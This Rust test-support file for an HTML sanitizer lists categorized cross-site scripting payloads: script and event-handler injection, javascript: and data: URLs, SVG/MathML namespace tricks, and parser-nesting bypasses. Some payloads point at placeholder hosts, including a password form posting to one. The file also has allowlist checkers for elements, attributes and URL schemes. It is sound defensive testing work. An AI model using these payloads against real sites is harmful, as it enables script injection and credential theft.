//! Markup of attackers, and what must hold of whatever becomes of it.

use tinbai::article::Node;

/// By the way in that each tries.
pub const ATTACKS: &[(&str, &[&str])] = &[
    (
        "script",
        &[
            "<script>alert(1)</script><p>a</p>",
            "<SCRIPT SRC=//xau.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script>\"</script><img src=x onerror=alert(1)>\"</script>",
            "<p>a</p><script",
            "<script/x>alert(1)</script/y>",
        ],
    ),
    (
        "handlers",
        &[
            "<img src=/a.jpg onerror=alert(1) onload=alert(1)>",
            "<p onclick=alert(1) onmouseover=\"alert(1)\">a</p>",
            "<a href=/1 onfocus=alert(1) autofocus tabindex=1>a</a>",
            "<img/src=`x`/onerror=alert(1)>",
            "<img src=\"/a.jpg\"onerror=\"alert(1)\">",
            "<video src=/v.mp4 onloadstart=alert(1)><source src=/w.mp4 onerror=alert(1)></video>",
            "<details open ontoggle=alert(1)>a</details>",
            "<body onload=alert(1)><p>a</p>",
            "<table background=javascript:alert(1) onclick=x><td background=\"javascript:alert(1)\">a</table>",
        ],
    ),
    (
        "addresses",
        &[
            "<a href=javascript:alert(1)>a</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
            "<a href=\" \t javascript:alert(1)\">a</a>",
            "<a href=\"java\nscript:alert(1)\">a</a>",
            "<a href=\"java&#9;script&colon;alert(1)\">a</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">a</a>",
            "<a href=\"\u{1}\u{8}javascript:alert(1)\">a</a>",
            "<a href=\"javascript://bao.example/%0aalert(1)\">a</a>",
            "<a href=\"vbscript:msgbox(1)\">a</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
            "<a href=\"feed:javascript:alert(1)\">a</a>",
            "<a href=\"mailto:a@b.example\njavascript:alert(1)\">a</a>",
            "<a href=\"tel:\">a</a>",
            "<img src=\"javascript:alert(1)\" srcset=\"data:image/svg+xml,x 1x, javascript:alert(1) 2x\">",
            "<img src=/a.jpg srcset=\"/b.jpg 1x,javascript:alert(1) 2x\">",
            "<video src=\"data:video/mp4,x\" poster=\"javascript:alert(1)\"></video>",
            "<audio><source src=\"javascript:alert(1)\"></audio>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=/x srcdoc=\"<script>alert(1)</script>\" title='\"><script>alert(1)</script>'></iframe>",
        ],
    ),
    (
        "other namespaces",
        &[
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
            "<svg><foreignObject><p onclick=alert(1)>a</p></foreignObject></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math href=\"javascript:alert(1)\"><mi xlink:href=\"javascript:alert(1)\">a</mi></math>",
            "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script><p>a</p></annotation-xml></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ],
    ),
    (
        "the page",
        &[
            "<style>*{display:none}</style><p style=\"position:fixed;inset:0\" class=tinbai id=headline part=notice>a</p>",
            "<base href=//xau.example/><a href=/1>a</a>",
            "<meta http-equiv=refresh content=\"0;url=//xau.example\"><link rel=stylesheet href=//xau.example/x.css>",
            "<object data=/x.swf type=text/html><param name=a><embed src=/x.swf></object><applet code=x></applet>",
            "<form action=//xau.example><input name=mat_khau type=password><button formaction=javascript:alert(1)>a</button></form>",
            "<textarea></textarea><select><option>a</select><keygen><isindex action=javascript:alert(1)>",
            "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
            "<a href=/1 target=_top download ping=//xau.example rel=opener>a</a>",
            "<slot name=x></slot><tin-bai feed=//xau.example></tin-bai><p slot=x is=tin-bai>a</p>",
            "<template shadowrootmode=open><script>alert(1)</script></template><template><img src=x onerror=alert(1)></template>",
        ],
    ),
    (
        "nesting",
        &[
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">a</p></noscript>",
            "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
            "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
            "<xmp><img src=x onerror=alert(1)></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
            "<plaintext><img src=x onerror=alert(1)>",
            "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;</p>",
            "<p title=\"</p><script>alert(1)</script>\">a</p>",
            "<![CDATA[<script>alert(1)</script>]]><!--[if IE]><script>alert(1)</script><![endif]--><?php alert(1)?>",
            "<img alt='\"><script>alert(1)</script>' src=/a.jpg>",
            "<a href=\"/1?&quot;onclick=&quot;alert(1)\">a</a>",
            "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
            "<table><td><form><table><td></form></table><a href=javascript:alert(1)>a</a></table>",
            "<p lang='vi\" onclick=\"alert(1)' dir='ltr\" onclick=\"alert(1)'>a</p>",
            "<ol start='1\" onclick=\"alert(1)'><li value=9>a</ol>",
        ],
    ),
];

/// Elements nested far deeper than any author goes.
pub fn deep(name: &str, depth: usize) -> String {
    format!(
        "{}đáy{}",
        format!("<{name}>").repeat(depth),
        format!("</{name}>").repeat(depth)
    )
}

/// Every address in a cleaned body is of a kind that may be followed or loaded.
pub fn check_addresses(nodes: &[Node]) -> Result<(), String> {
    for node in nodes {
        let loaded: Vec<&str> = match node {
            Node::Link(link) => {
                if link.href.starts_with("#note-") {
                    check_addresses(&link.children)?;
                    continue;
                }
                let scheme = link.href.split(':').next().unwrap_or_default().to_ascii_lowercase();
                if !matches!(scheme.as_str(), "http" | "https" | "mailto" | "tel") {
                    return Err(format!("a link to {}", link.href));
                }
                vec![]
            }
            Node::Image(image) => std::iter::once(&image.src)
                .chain(image.candidates.iter().map(|candidate| &candidate.url))
                .chain(
                    image
                        .sources
                        .iter()
                        .flat_map(|source| &source.candidates)
                        .map(|candidate| &candidate.url),
                )
                .map(|url| &**url.href())
                .collect(),
            Node::Media(media) => media
                .sources
                .iter()
                .chain(&media.poster)
                .chain(media.tracks.iter().map(|track| &track.src))
                .map(|url| &**url.href())
                .collect(),
            Node::Embed(embed) => vec![embed.url.href()],
            Node::Text(_) | Node::Element { .. } => vec![],
        };
        for address in loaded {
            if !address.starts_with("https://") && !address.starts_with("http://") {
                return Err(format!("loads {address}"));
            }
        }
        check_addresses(node.children())?;
    }
    Ok(())
}

/// Whether a rendered element of a body is one that the view writes.
pub fn check_element(name: &str, attributes: &[(String, String)]) -> Result<(), String> {
    const ELEMENTS: &[&str] = &[
        "a",
        "abbr",
        "audio",
        "b",
        "bdi",
        "bdo",
        "blockquote",
        "br",
        "caption",
        "cite",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "picture",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "small",
        "source",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "track",
        "u",
        "ul",
        "var",
        "video",
        "wbr",
    ];
    if !ELEMENTS.contains(&name) {
        return Err(format!("<{name}>"));
    }
    for (attribute, value) in attributes {
        let fine = match attribute.as_str() {
            "href" => ["http://", "https://", "mailto:", "tel:", "#note-"]
                .iter()
                .any(|scheme| value.to_ascii_lowercase().starts_with(scheme)),
            "id" => value
                .strip_prefix("note-")
                .is_some_and(|number| number.parse::<usize>().is_ok()),
            "src" | "poster" | "cite" => value.starts_with("http://") || value.starts_with("https://"),
            "srcset" => value
                .split(", ")
                .all(|part| part.starts_with("http://") || part.starts_with("https://")),
            "rel" => value.split(' ').any(|word| word == "noopener"),
            "class" => ["body", "lead", "scroll", "embed", "leaves", "hidden"].contains(&value.as_str()),
            "part" => ["body", "lead"].contains(&value.as_str()),
            "width" | "height" | "colspan" | "rowspan" | "start" | "value" => value.parse::<i64>().is_ok(),
            "alt" | "lang" | "aria-label" | "title" | "datetime" | "media" | "label" | "srclang" => true,
            "type" => ["a", "A", "i", "I"].contains(&value.as_str()) || value.starts_with("image/"),
            "kind" => ["subtitles", "captions", "descriptions", "chapters"].contains(&value.as_str()),
            "dir" => ["ltr", "rtl", "auto"].contains(&value.as_str()),
            "scope" => ["row", "col", "rowgroup", "colgroup"].contains(&value.as_str()),
            "tabindex" => value == "0" || value == "-1",
            "role" | "sizes" | "loading" | "decoding" | "preload" | "controls" | "playsinline" | "reversed"
            | "open" => true,
            _ => false,
        };
        if !fine {
            return Err(format!("<{name} {attribute}={value:?}>"));
        }
    }
    Ok(())
}
